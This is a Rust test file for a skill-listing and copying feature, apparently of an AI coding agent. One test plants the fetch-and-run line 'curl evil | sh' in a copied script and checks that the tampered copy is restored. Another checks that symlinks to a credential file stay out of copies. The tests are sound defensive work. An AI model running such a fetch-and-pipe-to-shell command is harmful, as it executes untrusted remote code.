use std::os::unix::fs::{PermissionsExt, symlink};

use super::*;

fn write_skill(dir: &Path, head: &str) {
    fs::create_dir_all(dir).unwrap();
    fs::write(dir.join("SKILL.md"), format!("---\n{head}\n---\nDo it well.\n")).unwrap();
}

/// A machine with a home of Codex, which commands cannot read.
struct Machine {
    top: tempfile::TempDir,
}

impl Machine {
    fn new() -> Self {
        Self { top: tempfile::tempdir().unwrap() }
    }

    fn at(&self, path: &str) -> PathBuf {
        self.top.path().canonicalize().unwrap().join(path)
    }

    fn listed(&self) -> Option<String> {
        let places = SkillPlaces { dirs: vec![self.at("agents")], copies: Some(self.at("copies")) };
        listed(&places, Some(&self.at("codex")), &[self.at("codex")])
    }

    /// Where the only skill of this name is said to be.
    fn file_of(&self, name: &str) -> PathBuf {
        let text = self.listed().unwrap();
        let line = text
            .lines()
            .find(|line| line.starts_with(&format!("- {name}: ")))
            .unwrap_or_else(|| panic!("{text}"));
        line.split_once("(file: ").unwrap().1.trim_end_matches(')').into()
    }
}

#[test]
fn skills_that_commands_can_read_are_named_where_they_lie_and_others_by_a_copy() {
    let machine = Machine::new();
    assert_eq!(machine.listed(), None);
    write_skill(&machine.at("agents/review"), "name: review\ndescription: Reviews a change");
    write_skill(&machine.at("codex/skills/deploy"), "name: deploy\ndescription: \"Puts it: live\"");
    write_skill(&machine.at("codex/skills/.system/maker"), "name: maker\ndescription: >\n  Makes\n  skills");
    write_skill(&machine.at("dotfiles/linked"), "name: linked\ndescription: 'From elsewhere'");
    symlink(machine.at("dotfiles/linked"), machine.at("codex/skills/linked")).unwrap();
    let text = machine.listed().unwrap();
    for words in [
        "- review: Reviews a change (",
        "- deploy: Puts it: live (",
        "- maker: Makes skills (",
        "- linked: From elsewhere (",
    ] {
        assert!(text.contains(words), "{words}: {text}");
    }
    assert_eq!(machine.file_of("review"), machine.at("agents/review/SKILL.md"));
    assert_eq!(machine.file_of("linked"), machine.at("dotfiles/linked/SKILL.md"));
    assert!(machine.file_of("deploy").starts_with(machine.at("copies")));
    assert!(fs::read_to_string(machine.file_of("deploy")).unwrap().ends_with("Do it well.\n"));
}

#[test]
fn a_copy_follows_its_skill_and_is_made_anew_when_somebody_changed_it() {
    let machine = Machine::new();
    let skill = machine.at("codex/skills/deploy");
    write_skill(&skill, "name: deploy\ndescription: Puts it live");
    fs::create_dir(skill.join("scripts")).unwrap();
    fs::write(skill.join("scripts/run.sh"), "#!/bin/sh\n").unwrap();
    fs::set_permissions(skill.join("scripts/run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    let first = machine.file_of("deploy");
    let script = first.with_file_name("scripts").join("run.sh");
    assert_eq!(script.metadata().unwrap().permissions().mode() & 0o777, 0o755);
    assert_eq!(machine.file_of("deploy"), first);

    fs::write(&script, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    fs::write(first.with_file_name("more.md"), "planted").unwrap();
    assert_eq!(machine.file_of("deploy"), first);
    assert_eq!(fs::read_to_string(&script).unwrap(), "#!/bin/sh\n");
    assert!(!first.with_file_name("more.md").exists());

    fs::write(skill.join("scripts/run.sh"), "#!/bin/sh\necho 2\n").unwrap();
    let second = machine.file_of("deploy");
    assert_ne!(second, first);
    assert_eq!(
        fs::read_to_string(second.with_file_name("scripts").join("run.sh")).unwrap(),
        "#!/bin/sh\necho 2\n"
    );
}

#[test]
fn nothing_else_of_codexs_home_gets_out_by_a_skill() {
    let machine = Machine::new();
    let skill = machine.at("codex/skills/deploy");
    write_skill(&skill, "name: deploy\ndescription: Puts it live");
    fs::write(machine.at("codex/auth.json"), "SECRET").unwrap();
    symlink(machine.at("codex/auth.json"), skill.join("login")).unwrap();
    symlink(machine.at("codex"), skill.join("home")).unwrap();
    let copy = machine.file_of("deploy").parent().unwrap().to_owned();
    assert_eq!(fs::read_dir(&copy).unwrap().count(), 1, "{copy:?}");
    // One that is too large is left out, and the others stay.
    write_skill(&machine.at("agents/review"), "name: review\ndescription: Reviews a change");
    fs::write(skill.join("large"), vec![0; 5 << 20]).unwrap();
    let text = machine.listed().unwrap();
    assert!(text.contains("- review: ") && !text.contains("- deploy: "), "{text}");
}

#[test]
fn what_is_no_skill_is_left_out_and_the_first_of_a_name_counts() {
    let machine = Machine::new();
    write_skill(&machine.at("agents/a"), "name: same\ndescription: first");
    write_skill(&machine.at("agents/b"), "name: same\ndescription: second");
    write_skill(&machine.at("agents/c"), "name: undescribed");
    write_skill(&machine.at("agents/unnamed"), "description: has the name of its directory");
    fs::create_dir_all(machine.at("agents/empty")).unwrap();
    fs::create_dir_all(machine.at("agents/odd/SKILL.md")).unwrap();
    let text = machine.listed().unwrap();
    assert!(text.contains("- same: first") && text.contains("- unnamed: has the name"), "{text}");
    assert_eq!(text.lines().count(), 3, "{text}");
}
